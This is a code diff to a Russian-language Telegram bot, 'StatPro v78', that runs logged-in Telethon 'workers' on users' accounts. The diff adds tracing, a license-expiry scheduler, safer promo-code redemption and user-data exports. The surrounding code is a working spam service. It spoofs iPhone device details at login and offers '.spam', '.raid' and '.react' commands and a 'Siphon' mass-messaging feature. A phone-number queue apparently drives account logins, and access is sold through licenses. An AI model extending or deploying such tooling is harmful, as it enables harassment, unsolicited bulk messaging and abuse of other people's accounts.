@@ -19,6 +19,12 @@ import csv
 import sys
 import re
 import json
+import heapq
+import gzip
+import contextlib
+import functools
+from contextvars import ContextVar
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Dict, List, Optional
 from dataclasses import dataclass
@@ -31,11 +37,12 @@ from aiogram.fsm.state import State, StatesGroup
 from aiogram.fsm.storage.memory import MemoryStorage
 from aiogram.types import (
     InlineKeyboardMarkup, InlineKeyboardButton, CallbackQuery, 
-    Message, BufferedInputFile
+    Message, BufferedInputFile, FSInputFile
 )
 from aiogram.enums import ParseMode
 from aiogram.filters import CommandStart
 from aiogram.client.default import DefaultBotProperties
+from aiogram.dispatcher.event.bases import SkipHandler
 
 # TELETHON IMPORTS
 from telethon import TelegramClient, events, types, Button, functions
@@ -92,6 +99,15 @@ class Config:
     DB_PATH: Path = BASE_DIR / "statpro_v78.db"
     TEMP_DIR: Path = BASE_DIR / "temp"
     
+    # --- SCHEDULER ---
+    MAINT_INTERVAL: int = 3600  # WAL checkpoint / ANALYZE / cleanup, sec
+    STALE_TTL: int = 3600       # login_* sessions and temp/ files older than this are removed
+    
+    # --- TRACING ---
+    TRACE_PATH: Path = BASE_DIR / "traces.jsonl"
+    TRACE_SAMPLE: float = float(os.environ.get("TRACE_SAMPLE", "0"))  # 0 = off, 0.1 = each update traced with 10% chance
+    TRACE_MAX_BYTES: int = 20 * 1024 * 1024  # rotated to traces.jsonl.1 by maintenance
+    
     # --- DEVICE SPOOFING (CRITICAL FOR AUTH) ---
     DEVICE_MODEL: str = "iPhone 15 Pro Max"
     SYSTEM_VERSION: str = "17.5.1"
@@ -108,15 +124,95 @@ cfg = Config()
 logging.basicConfig(level=logging.INFO, format='%(asctime)s | %(levelname)s | %(message)s')
 logger = logging.getLogger("StatPro_v78")
 
+# =========================================================================
+# 🔎 TRACING
+# =========================================================================
+# (trace, parent span id) of the current update; None = not sampled / outside an update
+TRACE_CTX: ContextVar[Optional[tuple]] = ContextVar("trace", default=None)
+
+class Tracer:
+    """Head-sampled spans per update, one JSONL line per finished trace. Summary: python traces.py"""
+
+    def __init__(self):
+        self.path = cfg.TRACE_PATH
+        self.rate = cfg.TRACE_SAMPLE
+        # One writer thread: appends and rotation never interleave
+        self.pool = ThreadPoolExecutor(max_workers=1, thread_name_prefix="trace")
+
+    def sampled(self) -> bool:
+        return self.rate > 0 and random.random() < self.rate
+
+    @contextlib.asynccontextmanager
+    async def root(self, name: str):
+        tr = {"id": os.urandom(6).hex(), "name": name, "ts": int(time.time()), "spans": [], "_t0": time.perf_counter()}
+        tok = TRACE_CTX.set((tr, 0))
+        try: yield
+        finally:
+            TRACE_CTX.reset(tok)
+            tr["dur_ms"] = round((time.perf_counter() - tr.pop("_t0")) * 1000, 3)
+            line = json.dumps(tr, ensure_ascii=False) + "\n"
+            self.pool.submit(self._write, line).add_done_callback(self._done)
+
+    def rename(self, name: str):
+        cur = TRACE_CTX.get()
+        if cur: cur[0]["name"] = name
+
+    @staticmethod
+    def _done(fut):
+        if fut.exception(): logger.error(f"Trace write error: {fut.exception()!r}")
+
+    def _write(self, line: str):
+        with open(self.path, "a", encoding="utf-8") as f: f.write(line)
+
+    def _rotate(self) -> bool:
+        if not self.path.exists() or self.path.stat().st_size < cfg.TRACE_MAX_BYTES: return False
+        os.replace(self.path, self.path.with_name(self.path.name + ".1"))
+        return True
+
+    async def rotate(self) -> bool:
+        try: return await asyncio.get_running_loop().run_in_executor(self.pool, self._rotate)
+        except OSError as e:
+            logger.error(f"Trace rotate error: {e}")
+            return False
+
+    @contextlib.asynccontextmanager
+    async def span(self, name: str):
+        cur = TRACE_CTX.get()
+        # "_t0" is gone once the root finished (tasks spawned inside keep the context)
+        if not cur or "_t0" not in cur[0]:
+            yield
+            return
+        tr, parent = cur
+        t0 = time.perf_counter()
+        sp = {"id": len(tr["spans"]) + 1, "parent": parent, "name": name, "at_ms": round((t0 - tr["_t0"]) * 1000, 3)}
+        tr["spans"].append(sp)
+        tok = TRACE_CTX.set((tr, sp["id"]))
+        try: yield
+        finally:
+            TRACE_CTX.reset(tok)
+            sp["dur_ms"] = round((time.perf_counter() - t0) * 1000, 3)
+
+tracer = Tracer()
+
+def traced(fn):
+    @functools.wraps(fn)
+    async def wrap(*a, **kw):
+        async with tracer.span(fn.__qualname__): return await fn(*a, **kw)
+    return wrap
+
 # =========================================================================
 # 🗄️ БАЗА ДАННЫХ
 # =========================================================================
 
 class Database:
-    def __init__(self): self.path = cfg.DB_PATH
+    def __init__(self):
+        self.path = cfg.DB_PATH
+        self.promos: Dict[str, list] = {}  # CODE -> [code, days, activations]
+        self.promo_locks: Dict[str, asyncio.Lock] = {}  # per code, so one hot promo doesn't block others
 
     def get_conn(self): return aiosqlite.connect(self.path)
 
+    @traced
     async def init(self):
         async with self.get_conn() as db:
             await db.execute("PRAGMA journal_mode=WAL")
@@ -155,7 +251,9 @@ class Database:
                 )
             """)
             await db.commit()
+        await self.load_promos()
 
+    @traced
     async def check_sub_bool(self, uid: int) -> bool:
         if uid == cfg.ADMIN_ID: return True
         async with self.get_conn() as db:
@@ -163,6 +261,7 @@ class Database:
                 r = await c.fetchone()
                 return r[0] > int(time.time()) if (r and r[0]) else False
 
+    @traced
     async def upsert_user(self, uid: int, uname: str, fname: str = ""):
         now = int(time.time())
         uname = uname or "Unknown"
@@ -171,40 +270,68 @@ class Database:
             await db.execute("UPDATE users SET username = ?, first_name = ? WHERE user_id = ?", (uname, fname, uid))
             await db.commit()
 
-    async def use_promo(self, uid: int, code: str) -> int:
-        code = code.strip()
+    @traced
+    async def load_promos(self):
         async with self.get_conn() as db:
-            async with db.execute("SELECT days, activations FROM promos WHERE code = ? COLLATE NOCASE", (code,)) as c:
-                r = await c.fetchone()
-                if not r or r[1] < 1: return 0
-                days = r[0]
-            
-            await db.execute("UPDATE promos SET activations = activations - 1 WHERE code = ?", (code,))
-            await db.execute("DELETE FROM promos WHERE activations <= 0")
-            
+            async with db.execute("SELECT code, days, activations FROM promos WHERE activations > 0") as c:
+                self.promos = {r[0].upper(): [r[0], r[1], r[2]] for r in await c.fetchall()}
+
+    @traced
+    async def use_promo(self, uid: int, code: str) -> int:
+        # Hot-promo cache rejects unknown/exhausted codes without touching the DB,
+        # the conditional UPDATE inside BEGIN IMMEDIATE is what guarantees no over-redemption.
+        key = code.strip().upper()
+        p = self.promos.get(key)
+        if not p or p[2] < 1: return 0
+        async with self.promo_locks.setdefault(key, asyncio.Lock()):
+            p = self.promos.get(key)
+            if not p or p[2] < 1: return 0
+            real_code, days = p[0], p[1]
             now = int(time.time())
-            await db.execute("INSERT OR IGNORE INTO users (user_id, sub_end, joined_at) VALUES (?, 0, ?)", (uid, now))
-            async with db.execute("SELECT sub_end FROM users WHERE user_id = ?", (uid,)) as c2:
-                row = await c2.fetchone()
-                curr = row[0] if (row and row[0]) else 0
-            
-            new_end = (curr if curr > now else now) + (days * 86400)
-            await db.execute("UPDATE users SET sub_end = ? WHERE user_id = ?", (new_end, uid))
-            await db.commit()
+            # Redemptions of different codes still race on SQLite's write lock, give them a longer busy timeout
+            async with aiosqlite.connect(self.path, timeout=30) as db:
+                await db.execute("BEGIN IMMEDIATE")
+                try:
+                    c = await db.execute("UPDATE promos SET activations = activations - 1 WHERE code = ? AND activations > 0", (real_code,))
+                    if c.rowcount != 1:
+                        await db.rollback()
+                        self.promos.pop(key, None)
+                        self.promo_locks.pop(key, None)
+                        return 0
+                    await db.execute("DELETE FROM promos WHERE code = ? AND activations <= 0", (real_code,))
+                    await db.execute("INSERT OR IGNORE INTO users (user_id, sub_end, joined_at) VALUES (?, 0, ?)", (uid, now))
+                    await db.execute("UPDATE users SET sub_end = MAX(COALESCE(sub_end, 0), ?) + ? WHERE user_id = ?", (now, days * 86400, uid))
+                    await db.commit()
+                except Exception:
+                    await db.rollback()
+                    raise
+            p[2] -= 1
+            if p[2] < 1:
+                self.promos.pop(key, None)
+                self.promo_locks.pop(key, None)
         return days
 
+    @traced
     async def create_promo(self, days: int, acts: int) -> str:
-        code = f"TITAN-{random.randint(1000,9999)}"
         async with self.get_conn() as db:
-            await db.execute("INSERT INTO promos VALUES (?, ?, ?)", (code, days, acts))
-            await db.commit()
+            for _ in range(50):
+                code = f"TITAN-{random.randint(1000,9999)}"
+                try:
+                    await db.execute("INSERT INTO promos VALUES (?, ?, ?)", (code, days, acts))
+                    await db.commit()
+                    break
+                except aiosqlite.IntegrityError: continue
+            else: raise RuntimeError("No free promo code left")
+        if acts > 0: self.promos[code] = [code, days, acts]
         return code
 
+    @traced
     async def get_user_info(self, uid: int):
         async with self.get_conn() as db:
             async with db.execute("SELECT sub_end, joined_at FROM users WHERE user_id = ?", (uid,)) as c:
                 return await c.fetchone()
 
+    @traced
     async def add_number(self, phone: str, user_id: int) -> bool:
         try:
             async with self.get_conn() as db:
@@ -214,6 +341,7 @@ class Database:
             return True
         except: return False
 
+    @traced
     async def get_available_number(self, worker_id: int) -> Optional[str]:
         async with self.get_conn() as db:
             async with db.execute("SELECT phone, id FROM numbers WHERE status=? AND worker_id IS NULL ORDER BY created_at ASC LIMIT 1", (NumberStatus.WAITING.value,)) as c:
@@ -224,11 +352,31 @@ class Database:
                     return row[0]
         return None
 
+    @traced
     async def update_number_status(self, phone: str, status: NumberStatus):
         async with self.get_conn() as db:
             await db.execute("UPDATE numbers SET status=? WHERE phone=?", (status.value, phone))
             await db.commit()
 
+    USER_COLS = ("user_id", "username", "first_name", "sub_end", "joined_at", "active")
+
+    async def iter_users(self, chunk: int = 1000):
+        """Yield users in chunks from a read-only connection (never blocks WAL writers)."""
+        async with aiosqlite.connect(Path(self.path).resolve().as_uri() + "?mode=ro", uri=True) as db:
+            async with db.execute("SELECT user_id, username, first_name, sub_end, joined_at, sub_end > ? FROM users ORDER BY user_id", (int(time.time()),)) as c:
+                while True:
+                    rows = await c.fetchmany(chunk)
+                    if not rows: break
+                    yield rows
+
+    @traced
+    async def maintain(self):
+        async with self.get_conn() as db:
+            await db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+            await db.execute("ANALYZE")
+            await db.commit()
+
+    @traced
     async def get_user_stats(self, uid: int):
         async with self.get_conn() as db:
             async with db.execute("SELECT COUNT(*), SUM(CASE WHEN status='completed' THEN 1 ELSE 0 END) FROM numbers WHERE user_id=?", (uid,)) as c:
@@ -262,6 +410,8 @@ class Worker:
         self.uid = uid
         self.client: Optional[TelegramClient] = None
         self.spam_task = None
+        self.run_task = None
+        self.stopped = False
         self.status = WorkerStatus.OFFLINE
         
         # SMS State
@@ -278,6 +428,7 @@ class Worker:
             sequential_updates=False
         )
 
+    @traced
     async def start(self) -> bool:
         self.client = self._get_client(cfg.SESSION_DIR / f"session_{self.uid}")
         try:
@@ -285,7 +436,7 @@ class Worker:
             if not await self.client.is_user_authorized(): return False
             
             self._bind_handlers()
-            asyncio.create_task(self._run_safe())
+            self.run_task = asyncio.create_task(self._run_safe())
             
             self.status = WorkerStatus.ONLINE
             self.started_at = int(time.time())
@@ -295,12 +446,15 @@ class Worker:
             return False
 
     async def _run_safe(self):
-        while True:
+        # except Exception, not bare except: stop() cancels this task and CancelledError must get through
+        while not self.stopped:
             try: await self.client.run_until_disconnected()
-            except: 
+            except Exception: 
                 await asyncio.sleep(5)
+                if self.stopped: break
                 try: await self.client.connect()
-                except: pass
+                except Exception: pass
+            if self.stopped: break
             if not await self.client.is_user_authorized(): 
                 self.status = WorkerStatus.ERROR
                 break
@@ -426,12 +580,21 @@ class Worker:
         async def stop(e):
             if self.spam_task: self.spam_task.cancel(); await e.edit("🛑")
 
-    async def stop(self):
+    @traced
+    async def stop(self) -> bool:
+        self.stopped = True
         try:
-            if self.client: await self.client.disconnect()
+            # Reconnect loop goes first, otherwise it reconnects the client right after disconnect()
+            if self.run_task:
+                self.run_task.cancel()
+                await asyncio.gather(self.run_task, return_exceptions=True)
             if self.spam_task: self.spam_task.cancel()
+            if self.client: await self.client.disconnect()
             self.status = WorkerStatus.OFFLINE
-        except: pass
+            return True
+        except Exception as e:
+            logger.error(f"Worker {self.uid} stop error: {e}")
+            return False
 
 W_POOL: Dict[int, Worker] = {}
 
@@ -464,6 +627,7 @@ class AdminStates(StatesGroup):
     COUNT = State()
 
 # --- HELPER: CHECK SUB ---
+@traced
 async def check_subscription(user_id: int) -> bool:
     if user_id == cfg.ADMIN_ID: return True
     try:
@@ -472,24 +636,85 @@ async def check_subscription(user_id: int) -> bool:
     except Exception:
         return False
 
-def kb_main(uid: int):
-    btns = [
-        [InlineKeyboardButton(text="🚀 Запуск", callback_data="start_worker"), InlineKeyboardButton(text="🛑 Стоп", callback_data="stop_worker")],
-        [InlineKeyboardButton(text="➕ Номера", callback_data="add_numbers"), InlineKeyboardButton(text="🌪 Siphon", callback_data="siphon_start")],
-        [InlineKeyboardButton(text="👤 Профиль", callback_data="profile"), InlineKeyboardButton(text="🔑 Вход (Auth)", callback_data="auth")],
-        [InlineKeyboardButton(text="📚 Команды", callback_data="help")]
+def _kb(rows) -> InlineKeyboardMarkup:
+    return InlineKeyboardMarkup(inline_keyboard=[[InlineKeyboardButton(text=t, **{("url" if v.startswith("http") else "callback_data"): v}) for t, v in r] for r in rows])
+
+def _build_kb_main(admin: bool) -> InlineKeyboardMarkup:
+    rows = [
+        [("🚀 Запуск", "start_worker"), ("🛑 Стоп", "stop_worker")],
+        [("➕ Номера", "add_numbers"), ("🌪 Siphon", "siphon_start")],
+        [("👤 Профиль", "profile"), ("🔑 Вход (Auth)", "auth")],
+        [("📚 Команды", "help")]
     ]
-    if uid == cfg.ADMIN_ID: 
-        btns.append([InlineKeyboardButton(text="👑 Админ", callback_data="adm")])
-    return InlineKeyboardMarkup(inline_keyboard=btns)
+    if admin: rows.append([("👑 Админ", "adm")])
+    return _kb(rows)
+
+def _build_kb_numpad() -> InlineKeyboardMarkup:
+    return _kb([
+        [("1", "n_1"), ("2", "n_2"), ("3", "n_3")],
+        [("4", "n_4"), ("5", "n_5"), ("6", "n_6")],
+        [("7", "n_7"), ("8", "n_8"), ("9", "n_9")],
+        [("🔙", "n_del"), ("0", "n_0"), ("✅", "n_go")]
+    ])
+
+# Static keyboards are built once at import, markups are only serialized on send
+KB_MAIN = _build_kb_main(False)
+KB_MAIN_ADMIN = _build_kb_main(True)
+KB_NUMPAD = _build_kb_numpad()
+KB_SUB = _kb([[("📢 Подписаться на канал", cfg.CHANNEL_LINK)], [("✅ Проверить подписку", "check_sub")]])
+KB_PROFILE = _kb([[("🎟 Промо", "promo"), ("🔙", "back")]])
+KB_BACK = _kb([[("🔙", "back")]])
+KB_AUTH = _kb([[("📱 Телефон", "ph"), ("📸 QR", "qr")], [("🔙", "back")]])
+KB_ADM = _kb([[("Создать Промо", "mk_promo")], [("📤 Users CSV", "exp_csv"), ("📤 Users JSONL", "exp_jsonl")]])
+
+def kb_main(uid: int):
+    return KB_MAIN_ADMIN if uid == cfg.ADMIN_ID else KB_MAIN
 
 def kb_numpad():
-    return InlineKeyboardMarkup(inline_keyboard=[
-        [InlineKeyboardButton(text="1", callback_data="n_1"), InlineKeyboardButton(text="2", callback_data="n_2"), InlineKeyboardButton(text="3", callback_data="n_3")],
-        [InlineKeyboardButton(text="4", callback_data="n_4"), InlineKeyboardButton(text="5", callback_data="n_5"), InlineKeyboardButton(text="6", callback_data="n_6")],
-        [InlineKeyboardButton(text="7", callback_data="n_7"), InlineKeyboardButton(text="8", callback_data="n_8"), InlineKeyboardButton(text="9", callback_data="n_9")],
-        [InlineKeyboardButton(text="🔙", callback_data="n_del"), InlineKeyboardButton(text="0", callback_data="n_0"), InlineKeyboardButton(text="✅", callback_data="n_go")]
-    ])
+    return KB_NUMPAD
+
+# --- CALLBACK ROUTING ---
+# callback_data is parsed once and dispatched by dict lookup instead of walking
+# a chain of F.data filters. Keys ending with "_" register a family ("n_" -> n_1, n_go),
+# the longest matching family wins ("adm_exp_" before "adm_").
+CB_EXACT: Dict[str, tuple] = {}
+CB_PREFIX: Dict[str, tuple] = {}
+
+def cb(key: str, st: Optional[State] = None):
+    def deco(fn):
+        (CB_PREFIX if key.endswith("_") else CB_EXACT)[key] = (fn, st.state if st else None)
+        return fn
+    return deco
+
+def resolve_cb(data: str):
+    """-> (route, arg, key); arg is None for exact keys, everything None if unrouted."""
+    route = CB_EXACT.get(data)
+    if route: return route, None, data
+    i = data.rfind("_")
+    while i >= 0:
+        key = data[:i + 1]
+        route = CB_PREFIX.get(key)
+        if route: return route, data[i + 1:], key
+        i = data.rfind("_", 0, i)
+    return None, None, None
+
+@dp.update.outer_middleware()
+async def trace_update(handler, event, data):
+    # Sampling first: unsampled updates pay one random() and nothing else
+    if not tracer.sampled(): return await handler(event, data)
+    # Callbacks get renamed to their routed key in on_callback
+    async with tracer.root(f"{event.event_type}:{data.get('raw_state') or '-'}"): return await handler(event, data)
+
+@router.callback_query()
+async def on_callback(c: CallbackQuery, state: FSMContext):
+    route, arg, key = resolve_cb(c.data or "")
+    # Not ours (unrouted key / wrong FSM state): let aiogram try the next handlers
+    if not route: raise SkipHandler()
+    tracer.rename(f"cb:{key}")  # family key, no numpad digits in traces
+    fn, st = route
+    if st and await state.get_state() != st: raise SkipHandler()
+    if arg is None: await fn(c, state)
+    else: await fn(c, state, arg)
 
 # =========================================================================
 # HANDLERS
@@ -502,15 +727,11 @@ async def start(m: Message, state: FSMContext):
     
     # SUB CHECK
     if not await check_subscription(m.from_user.id):
-        kb = InlineKeyboardMarkup(inline_keyboard=[
-            [InlineKeyboardButton(text="📢 Подписаться на канал", url=cfg.CHANNEL_LINK)],
-            [InlineKeyboardButton(text="✅ Проверить подписку", callback_data="check_sub")]
-        ])
-        return await m.answer("⚠️ <b>Доступ закрыт!</b>\nПодпишитесь на канал.", reply_markup=kb)
+        return await m.answer("⚠️ <b>Доступ закрыт!</b>\nПодпишитесь на канал.", reply_markup=KB_SUB)
     
     await m.answer(f"💎 <b>StatPro v78</b>\nДобро пожаловать, {m.from_user.first_name}!", reply_markup=kb_main(m.from_user.id))
 
-@router.callback_query(F.data == "check_sub")
+@cb("check_sub")
 async def check_sub_cb(c: CallbackQuery, state: FSMContext):
     if await check_subscription(c.from_user.id):
         await c.message.delete()
@@ -518,8 +739,8 @@ async def check_sub_cb(c: CallbackQuery, state: FSMContext):
     else:
         await c.answer("❌ Вы ещё не подписались!", True)
 
-@router.callback_query(F.data == "profile")
-async def profile(c: CallbackQuery):
+@cb("profile")
+async def profile(c: CallbackQuery, state: FSMContext):
     if not await check_subscription(c.from_user.id): return await c.answer("❌ Подписка!", True)
     
     info = await db.get_user_info(c.from_user.id)
@@ -533,35 +754,30 @@ async def profile(c: CallbackQuery):
     t = (f"👤 <b>ID:</b> {c.from_user.id}\n💎 Подписка: {sub_active} ({sub_date})\n"
          f"🔌 Воркер: {ws}\n\n📊 <b>Статистика:</b>\nВсего: {stats['total']}\nОК: {stats['completed']}")
     
-    await c.message.edit_text(t, reply_markup=InlineKeyboardMarkup(inline_keyboard=[
-        [InlineKeyboardButton(text="🎟 Промо", callback_data="promo"), InlineKeyboardButton(text="🔙", callback_data="back")]
-    ]))
+    await c.message.edit_text(t, reply_markup=KB_PROFILE)
 
-@router.callback_query(F.data == "back")
+@cb("back")
 async def back(c: CallbackQuery, state: FSMContext):
     await c.message.delete()
     await start(c.message, state)
 
-@router.callback_query(F.data == "help")
-async def help_cb(c: CallbackQuery):
+@cb("help")
+async def help_cb(c: CallbackQuery, state: FSMContext):
     t = ("🤖 <b>Команды Воркера:</b>\n"
          ".u - Взять номер\n.v - Подтвердить вход\n.spam [N] [txt] - Спам\n"
          ".raid [N] [txt] - Рейд\n.react [N] [emoji] - Реакции\n"
          ".ping - Пинг\n.report - Анализ логов\n.g [q] - AI запрос")
-    await c.message.edit_text(t, reply_markup=InlineKeyboardMarkup(inline_keyboard=[[InlineKeyboardButton(text="🔙", callback_data="back")]]))
+    await c.message.edit_text(t, reply_markup=KB_BACK)
 
 # --- AUTH SYSTEM (FIXED) ---
-@router.callback_query(F.data == "auth")
-async def auth(c: CallbackQuery):
+@cb("auth")
+async def auth(c: CallbackQuery, state: FSMContext):
     if not await check_subscription(c.from_user.id): return await c.answer("❌ Подписка!", True)
     if not await db.check_sub_bool(c.from_user.id): return await c.answer("❌ Нет лицензии!", True)
     
-    await c.message.edit_text("🔐 <b>ВХОД</b>", reply_markup=InlineKeyboardMarkup(inline_keyboard=[
-        [InlineKeyboardButton(text="📱 Телефон", callback_data="ph"), InlineKeyboardButton(text="📸 QR", callback_data="qr")],
-        [InlineKeyboardButton(text="🔙", callback_data="back")]
-    ]))
+    await c.message.edit_text("🔐 <b>ВХОД</b>", reply_markup=KB_AUTH)
 
-@router.callback_query(F.data == "ph")
+@cb("ph")
 async def auth_ph(c: CallbackQuery, state: FSMContext):
     await c.message.edit_text("📱 <b>Введите номер (с 7 или +7):</b>")
     await state.set_state(AuthStates.PHONE)
@@ -592,9 +808,8 @@ async def auth_ph_get(m: Message, state: FSMContext):
         await m.answer(f"❌ Ошибка: {e}")
         await state.clear()
 
-@router.callback_query(F.data.startswith("n_"), AuthStates.CODE)
-async def auth_numpad(c: CallbackQuery, state: FSMContext):
-    act = c.data.split("_")[1]
+@cb("n_", AuthStates.CODE)
+async def auth_numpad(c: CallbackQuery, state: FSMContext, act: str):
     d = await state.get_data()
     code = d.get("code_input", "")
     temp_client = d.get("temp_client")
@@ -616,6 +831,7 @@ async def auth_numpad(c: CallbackQuery, state: FSMContext):
             w = Worker(c.from_user.id)
             if await w.start():
                 W_POOL[c.from_user.id] = w
+                await sched.watch(c.from_user.id)
                 await c.message.answer("✅ <b>Успешно!</b>")
                 await start(c.message, state)
             else:
@@ -653,6 +869,7 @@ async def auth_pwd(m: Message, state: FSMContext):
         w = Worker(m.from_user.id)
         if await w.start():
             W_POOL[m.from_user.id] = w
+            await sched.watch(m.from_user.id)
             await m.answer("✅ <b>Успешно!</b>")
             await start(m, state)
     except Exception as e:
@@ -660,7 +877,7 @@ async def auth_pwd(m: Message, state: FSMContext):
         await temp_client.disconnect()
     await state.clear()
 
-@router.callback_query(F.data == "qr")
+@cb("qr")
 async def auth_qr(c: CallbackQuery, state: FSMContext):
     uid = c.from_user.id
     path = str(cfg.SESSION_DIR / f"session_{uid}")
@@ -678,6 +895,7 @@ async def auth_qr(c: CallbackQuery, state: FSMContext):
         w = Worker(uid)
         if await w.start():
             W_POOL[uid] = w
+            await sched.watch(uid)
             await c.message.answer("✅ Вход выполнен")
     except Exception as e:
         await c.message.answer(f"❌ Ошибка: {e}")
@@ -685,7 +903,7 @@ async def auth_qr(c: CallbackQuery, state: FSMContext):
         await state.clear()
 
 # --- PROMO & TOOLS ---
-@router.callback_query(F.data == "promo")
+@cb("promo")
 async def cb_promo(c: CallbackQuery, state: FSMContext):
     await c.message.edit_text("🎟 <b>Промокод:</b>")
     await state.set_state(PromoStates.CODE)
@@ -697,8 +915,8 @@ async def state_promo(m: Message, state: FSMContext):
     else: await m.answer("❌ Ошибка")
     await state.clear()
 
-@router.callback_query(F.data == "start_worker")
-async def start_w(c: CallbackQuery):
+@cb("start_worker")
+async def start_w(c: CallbackQuery, state: FSMContext):
     if not await check_subscription(c.from_user.id): return await c.answer("❌ Подписка!", True)
     if not await db.check_sub_bool(c.from_user.id): return await c.answer("❌ Лицензия!", True)
     if c.from_user.id in W_POOL: return await c.answer("✅ Работает", True)
@@ -706,19 +924,20 @@ async def start_w(c: CallbackQuery):
     w = Worker(c.from_user.id)
     if await w.start():
         W_POOL[c.from_user.id] = w
+        await sched.watch(c.from_user.id)
         await c.message.edit_text("✅ Запущен", reply_markup=kb_main(c.from_user.id))
     else:
         await c.message.edit_text("❌ Ошибка входа", reply_markup=kb_main(c.from_user.id))
 
-@router.callback_query(F.data == "stop_worker")
-async def stop_w(c: CallbackQuery):
+@cb("stop_worker")
+async def stop_w(c: CallbackQuery, state: FSMContext):
     if c.from_user.id in W_POOL:
         await W_POOL[c.from_user.id].stop()
         del W_POOL[c.from_user.id]
         await c.answer("🛑 Остановлен", True)
     else: await c.answer("❌ Не запущен", True)
 
-@router.callback_query(F.data == "add_numbers")
+@cb("add_numbers")
 async def add_n(c: CallbackQuery, state: FSMContext):
     if not await db.check_sub_bool(c.from_user.id): return await c.answer("❌ Лицензия!", True)
     await c.message.answer("📱 Номера столбиком:")
@@ -734,7 +953,7 @@ async def save_n(m: Message, state: FSMContext):
     await m.answer(f"✅ Добавлено: {cnt}")
     await state.clear()
 
-@router.callback_query(F.data == "siphon_start")
+@cb("siphon_start")
 async def siphon_start(c: CallbackQuery, state: FSMContext):
     if not await db.check_sub_bool(c.from_user.id): return await c.answer("❌ Лицензия!", True)
     if c.from_user.id not in W_POOL: return await c.answer("❌ Воркер оффлайн", True)
@@ -779,12 +998,12 @@ async def siphon_run(uid, w, ids, txt):
     try: await bot.send_message(uid, f"🏁 Рассылка: {ok}/{len(ids)}")
     except: pass
 
-@router.callback_query(F.data == "adm")
-async def adm(c: CallbackQuery):
+@cb("adm")
+async def adm(c: CallbackQuery, state: FSMContext):
     if c.from_user.id != cfg.ADMIN_ID: return
-    await c.message.edit_text("👑 Админка", reply_markup=InlineKeyboardMarkup(inline_keyboard=[[InlineKeyboardButton(text="Создать Промо", callback_data="mk_promo")]]))
+    await c.message.edit_text("👑 Админка", reply_markup=KB_ADM)
 
-@router.callback_query(F.data == "mk_promo")
+@cb("mk_promo")
 async def mk_promo(c: CallbackQuery, state: FSMContext):
     await c.message.answer("📅 Дней:")
     await state.set_state(AdminStates.DAYS)
@@ -802,6 +1021,109 @@ async def admin_count(m: Message, state: FSMContext):
     await m.answer(f"Code: <code>{code}</code>")
     await state.clear()
 
+async def export_users(fmt: str, path: Path) -> int:
+    n = 0
+    with gzip.open(path, "wt", encoding="utf-8", newline="") as f:
+        w = csv.writer(f) if fmt == "csv" else None
+        if w: w.writerow(db.USER_COLS)
+        # aclosing: on error/cancel the ro connection and its read transaction go away now, not at GC
+        async with contextlib.aclosing(db.iter_users()) as it:
+            async for rows in it:
+                if w: w.writerows(rows)
+                else: f.writelines(json.dumps(dict(zip(db.USER_COLS, r)), ensure_ascii=False) + "\n" for r in rows)
+                n += len(rows)
+    return n
+
+@cb("exp_")
+async def adm_export(c: CallbackQuery, state: FSMContext, fmt: str):
+    if c.from_user.id != cfg.ADMIN_ID or fmt not in ("csv", "jsonl"): return
+    await c.answer("⏳ Экспорт...")
+    path = cfg.TEMP_DIR / f"users_{int(time.time())}_{os.urandom(4).hex()}.{fmt}.gz"
+    t0 = time.perf_counter()
+    try:
+        n = await export_users(fmt, path)
+        dt = time.perf_counter() - t0
+        await c.message.answer_document(FSInputFile(path), caption=f"📤 Users: <b>{n}</b>\n⏱ {dt:.2f}s")
+    except Exception as e:
+        await c.message.answer(f"❌ Ошибка: {e}")
+    finally:
+        if path.exists(): os.remove(path)
+
+# =========================================================================
+# ⏰ SCHEDULER
+# =========================================================================
+class Scheduler:
+    """Min-heap of (when, kind, arg): license expiry per worker + periodic DB maintenance."""
+
+    def __init__(self):
+        self.heap: List[tuple] = []
+        self.due: Dict[int, int] = {}  # uid -> sub_end of the live expiry entry
+        self.wake = asyncio.Event()
+        self.task = None
+
+    def push(self, when: int, kind: str, arg=None):
+        heapq.heappush(self.heap, (when, kind, arg))
+        if self.heap[0][0] == when: self.wake.set()
+
+    async def watch(self, uid: int):
+        if uid == cfg.ADMIN_ID: return
+        info = await db.get_user_info(uid)
+        end = info[0] if (info and info[0]) else 0
+        self.due[uid] = end
+        self.push(end, "expire", uid)
+
+    def start(self):
+        self.push(int(time.time()) + cfg.MAINT_INTERVAL, "maint")
+        self.task = asyncio.create_task(self._loop())
+
+    async def _loop(self):
+        while True:
+            self.wake.clear()
+            delay = self.heap[0][0] - time.time() if self.heap else None
+            if delay is None or delay > 0:
+                try: await asyncio.wait_for(self.wake.wait(), delay)
+                except asyncio.TimeoutError: pass
+                continue
+            when, kind, arg = heapq.heappop(self.heap)
+            try:
+                if kind == "maint": await self._maintain()
+                else: await self._expire(arg, when)
+            except Exception as e:
+                logger.error(f"Scheduler {kind} error: {e}")
+            if kind == "maint": self.push(int(time.time()) + cfg.MAINT_INTERVAL, "maint")
+
+    async def _expire(self, uid: int, when: int):
+        if self.due.get(uid) != when: return  # superseded by a newer watch()
+        w = W_POOL.get(uid)
+        if not w:
+            self.due.pop(uid, None)
+            return
+        if await db.check_sub_bool(uid):  # renewed (promo) since it was scheduled
+            return await self.watch(uid)
+        t0 = time.perf_counter()
+        if not await w.stop(): logger.error(f"⌛ Worker {uid} did not stop cleanly, dropped from pool anyway")
+        W_POOL.pop(uid, None)
+        self.due.pop(uid, None)
+        try: await bot.send_message(uid, "⌛ <b>Лицензия истекла</b>, воркер остановлен.")
+        except: pass
+        logger.info(f"⌛ Worker {uid} retired in {(time.perf_counter() - t0) * 1000:.1f}ms")
+
+    async def _maintain(self):
+        t0 = time.perf_counter()
+        await db.maintain()
+        removed = 0
+        cutoff = time.time() - cfg.STALE_TTL
+        for f in [*cfg.SESSION_DIR.glob("login_*"), *cfg.TEMP_DIR.iterdir()]:
+            try:
+                if f.is_file() and f.stat().st_mtime < cutoff:
+                    f.unlink()
+                    removed += 1
+            except OSError: pass
+        rotated = ", traces rotated" if await tracer.rotate() else ""
+        logger.info(f"🧹 Maintenance done in {(time.perf_counter() - t0) * 1000:.1f}ms, removed {removed} stale files{rotated}")
+
+sched = Scheduler()
+
 # =========================================================================
 # 🚀 MAIN
 # =========================================================================
@@ -816,9 +1138,11 @@ async def main():
                 w = Worker(uid)
                 if await w.start():
                     W_POOL[uid] = w
+                    await sched.watch(uid)
                     restored += 1
         except: pass
     
+    sched.start()
